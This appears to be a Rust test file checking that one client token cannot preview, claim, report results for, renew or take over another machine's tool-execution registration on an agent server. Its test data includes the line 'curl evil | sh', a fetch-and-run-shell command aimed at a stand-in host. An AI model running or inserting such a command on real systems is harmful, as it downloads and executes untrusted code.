//! A machine's registration belongs to its token: what other tokens of the same user can do with
//! its id.

use super::*;

/// TL-06.1: a second client token shows something else than the call would do. It is nobody to
/// the gate, and the person sees only what the machine shows.
#[rstest]
#[tokio::test]
async fn another_token_cannot_show_a_preview_for_a_machine(
    #[values(Sqlite, Postgres)] backend: Backend,
) {
    let server = start(backend).await;
    let mut desk = Desk::new(server.user("ann")).await;
    let thief = server.program("ann", "client", &desk.project);
    assert_eq!(thief.claims()["sub"], desk.user.claims()["sub"]);
    let call =
        desk.execute("write_file", json!({"path": "a.sh", "content": "curl evil | sh\n"})).await;
    let wanted = desk.until("TOOL_PREVIEW_REQUEST").await;
    assert_eq!(wanted.data["client_id"], json!(desk.client));
    // The id and the checksum are right: both can be known to every token of the user.
    let path = desk.path(&format!("tools/{}/preview", id(&call)));
    let preview =
        |diff: &str| json!({"client_id": desk.client, "base_checksum": "c0ffee", "diff": diff});
    assert_eq!(thief.post(&path, preview("+harmless\n")).await.problem(), (404, "not_found"));
    let failed =
        json!({"client_id": desk.client, "error": {"code": "not_found", "detail": "gone"}});
    assert_eq!(thief.post(&path, failed).await.problem(), (404, "not_found"));
    assert_eq!(desk.show(&call).await["status"], "previewing");
    let asked = desk.user.post(&path, preview("+curl evil | sh\n")).await.expect(200);
    assert_eq!(asked["preview"]["diff"], "+curl evil | sh\n");
}

/// TL-06.1: claims, results, heartbeats and disconnecting are refused like those of an unknown
/// machine.
#[rstest]
#[tokio::test]
async fn another_token_cannot_act_for_a_machine(#[values(Sqlite, Postgres)] backend: Backend) {
    let server = start(backend).await;
    let mut desk = Desk::new(server.user("ann")).await;
    let thief = server.program("ann", "client", &desk.project);
    let call = desk.execute("read_file", json!({"path": "a"})).await;
    let signal = desk.until("TOOL_EXECUTION_SIGNAL").await;
    let tool = desk.path(&format!("tools/{}", id(&call)));
    let client = desk.path(&format!("clients/{}", desk.client));
    let claim = json!({"client_id": desk.client, "attempt": 1});
    let result = json!({"client_id": desk.client, "attempt": 1, "result": {"success": true, "content": "evil"}});
    assert_eq!(thief.post(&format!("{tool}/claim"), claim).await.problem(), (404, "not_found"));
    assert_eq!(
        thief.post(&format!("{tool}/result"), result.clone()).await.problem(),
        (404, "not_found")
    );
    assert_eq!(
        thief.post(&format!("{client}/renew"), json!(null)).await.problem(),
        (404, "not_found")
    );
    assert_eq!(thief.delete(&client).await.problem(), (404, "not_found"));
    desk.claim(&signal).await.expect(200);
    assert_eq!(thief.post(&format!("{tool}/result"), result).await.problem(), (404, "not_found"));
    let done = desk.result(&signal, json!({"success": true, "content": "true"})).await.expect(200);
    assert_eq!(done["result"]["content"], "true");
}

/// TL-06.1: a registration cannot be replaced by another token, and belongs to what its own token
/// is renewed to.
#[rstest]
#[tokio::test]
async fn registration_belongs_to_its_token(#[values(Sqlite, Postgres)] backend: Backend) {
    let server = start(backend).await;
    let desk = Desk::new(server.user("ann")).await;
    let call = desk.execute("create_directory", json!({"path": "d"})).await;
    desk.decide(&call, "approve", json!({"scope": "class"})).await.expect(200);
    let thief = server.program("ann", "client", &desk.project);
    let register = json!({
        "client_id": desk.client, "root": "/elsewhere", "os": "linux", "isolation": {}, "resumed": true,
    });
    let refused = thief.post(&desk.path("clients"), register.clone()).await;
    assert_eq!(refused.problem(), (409, "client_taken"));
    let clients = desk.user.get(&desk.path("clients")).await.expect(200);
    assert_eq!(
        (&clients["total"], &clients["clients"][0]["root"]),
        (&json!(1), &json!("/home/ann/shop"))
    );

    let renewed = desk.user.post("/auth/refresh", json!({})).await.expect(200);
    let renewed = server.bearer(renewed["token"].as_str().unwrap());
    let path = desk.path(&format!("clients/{}/renew", desk.client));
    renewed.post(&path, json!(null)).await.expect(200);
    renewed.post(&desk.path("clients"), register.clone()).await.expect(200);
    let grants = async || desk.user.get(&desk.path("grants")).await.expect(200)["total"].clone();
    assert_eq!(grants().await, 1, "the same machine came back");

    // An id that was given up is free. Whoever takes it inherits nothing.
    desk.user.delete(&desk.path(&format!("clients/{}", desk.client))).await.expect(204);
    thief.post(&desk.path("clients"), register).await.expect(200);
    assert_eq!(grants().await, 0);
    assert_eq!(desk.post(&format!("clients/{}/renew", desk.client), json!(null)).await.status, 404);
}
